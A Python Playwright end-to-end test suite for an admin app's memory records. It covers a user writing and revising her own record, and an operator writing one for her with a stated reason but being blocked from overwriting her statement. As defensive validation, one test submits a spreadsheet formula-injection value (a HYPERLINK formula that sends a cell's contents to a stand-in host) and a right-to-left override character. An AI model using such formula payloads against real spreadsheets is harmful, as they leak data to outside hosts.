"""In the browser: a user writes a memory about herself and edits it; an operator writes one for her with a
reason and may not overwrite what she said; bad input is refused with a message and writes nothing."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import expect

from tests.e2e.app_utils import check, click, fill, goto, key, nav, select, sign_in_as, table_text
from tests.e2e.test_journeys import PASSWORDS, db_row

pytestmark = pytest.mark.e2e

PEANUTS = "I am allergic to peanuts."


def count(store, sql, params=()) -> int:
    return db_row(store, f"SELECT COUNT(*) AS n FROM ({sql})", params)["n"]


def open_write_form(page, title: str) -> None:
    check(page, "memory_write_open")
    expect(page.get_by_text(title)).to_be_visible()
    expect(key(page, "memory_write_submit")).to_be_visible()


def tab(page, name: str) -> None:
    page.get_by_role("tab", name=name).click()


def test_a_user_writes_a_memory_about_herself_and_edits_it(app_server, page):
    base, store = app_server
    sign_in_as(page, base, "alice", PASSWORDS["alice"])
    expect(page.get_by_role("heading", name="My memory")).to_be_visible()
    open_write_form(page, "Write a memory about yourself")
    before = count(store, "SELECT id FROM records")

    # Bad input: a clear message, nothing written.
    fill(page, "memory_write_content", '=HYPERLINK("http://example.invalid/?x="&A1)', submit=False)
    click(page, "memory_write_submit")
    expect(page.get_by_text(re.compile("reads as a formula"))).to_be_visible()
    fill(page, "memory_write_content", "I live in \u202eLisbon", submit=False)
    click(page, "memory_write_submit")
    expect(page.get_by_text(re.compile(r"U\+202E RIGHT-TO-LEFT OVERRIDE"))).to_be_visible()
    fill(page, "memory_write_content", "   ", submit=False)
    click(page, "memory_write_submit")
    expect(page.get_by_text(re.compile("content must not be empty"))).to_be_visible()
    assert count(store, "SELECT id FROM records") == before

    fill(page, "memory_write_content", PEANUTS, submit=False)
    click(page, "memory_write_submit")
    expect(page.get_by_text(re.compile(r"Saved mem_\w+ \(user_statement, confirmed\)"))).to_be_visible()
    row = db_row(store, "SELECT * FROM records WHERE content = ?", (PEANUTS,))
    assert (row["scope_kind"], row["scope_id"], row["source_kind"], row["evidence"]) == ("user", "alice", "user_statement", PEANUTS)
    assert (row["creator_agent_id"], row["source_ref"]) == ("admin-app", "admin-app:ui:alice")
    first = row["id"]
    # The new record is open at once, with where it came from.
    expect(page.get_by_text(re.compile(f"^{first} · semantic · version 1"))).to_be_visible()
    tab(page, "Evidence")
    expect(page.get_by_text("Entered by ui:alice in the admin app (user_statement).")).to_be_visible()

    # Edit: a new version; the History names who made it and why.
    check(page, "records_detail_revise_open")
    expect(key(page, "records_detail_revise_submit")).to_be_visible()
    fill(page, f"records_detail_revise_content_{first}", "I am allergic to peanuts and cashews.", submit=False)
    fill(page, "records_detail_revise_reason", "forgot the cashews", submit=False)
    click(page, "records_detail_revise_submit")
    expect(page.get_by_text(re.compile(f"Revised {first}: saved mem_"))).to_be_visible()
    new = db_row(store, "SELECT id, version, evidence FROM records WHERE superseded_by_id IS NULL AND lineage_id = "
                        "(SELECT lineage_id FROM records WHERE id = ?) AND id != ?", (first, first))
    assert new["version"] == 2 and new["evidence"] == "I am allergic to peanuts and cashews."
    assert db_row(store, "SELECT status FROM records WHERE id = ?", (first,))["status"] == "superseded"
    expect(page.get_by_text(re.compile(f"^{new['id']} · semantic · version 2"))).to_be_visible()
    tab(page, "History")
    history = table_text(page, "records_detail_events")
    assert "ui:alice" in history and "forgot the cashews" in history
    tab(page, "Lineage")
    assert first in table_text(page, "records_detail_lineage")


def test_an_operator_writes_for_a_user_with_a_reason_and_cannot_overwrite_her_words(app_server, page):
    base, store = app_server
    goto(page, base)
    nav(page, "Records")
    open_write_form(page, "Write a memory for a user")
    select(page, "memory_write_user", "alice")
    fill(page, "memory_write_content", "Alice's desk is on the third floor.", submit=False)
    click(page, "memory_write_submit")
    expect(page.get_by_text(re.compile("give a reason"))).to_be_visible()
    assert count(store, "SELECT id FROM records WHERE content = ?", ("Alice's desk is on the third floor.",)) == 0
    fill(page, "memory_write_reason", "facilities moved her", submit=False)
    click(page, "memory_write_submit")
    expect(page.get_by_text(re.compile(r"Saved mem_\w+ \(system, confirmed\)"))).to_be_visible()
    row = db_row(store, "SELECT id, source_kind, source_ref FROM records WHERE content = ?", ("Alice's desk is on the third floor.",))
    assert (row["source_kind"], row["source_ref"]) == ("system", "admin-app:ui:demo-operator")
    event = db_row(store, "SELECT actor, reason FROM events WHERE record_id = ? ORDER BY seq LIMIT 1", (row["id"],))
    assert (event["actor"], event["reason"]) == ("ui:demo-operator", "app_entry: facilities moved her")

    # A statement of Alice's own: the operator's edit would outrank it, so it is refused.
    said = db_row(store, "SELECT id, content FROM records WHERE scope_kind = 'user' AND scope_id = 'alice' AND "
                         "source_kind = 'user_statement' AND status = 'confirmed' AND type = 'semantic' LIMIT 1")
    fill(page, "records_text", said["id"])
    select(page, "records_selected", said["id"])
    check(page, "records_detail_revise_open")
    expect(key(page, "records_detail_revise_submit")).to_be_visible()
    fill(page, f"records_detail_revise_content_{said['id']}", "Something else entirely.", submit=False)
    fill(page, "records_detail_revise_reason", "tidying", submit=False)
    click(page, "records_detail_revise_submit")
    expect(page.get_by_text(re.compile("cannot replace the user's own statement"))).to_be_visible()
    assert db_row(store, "SELECT status, content FROM records WHERE id = ?", (said["id"],))["content"] == said["content"]
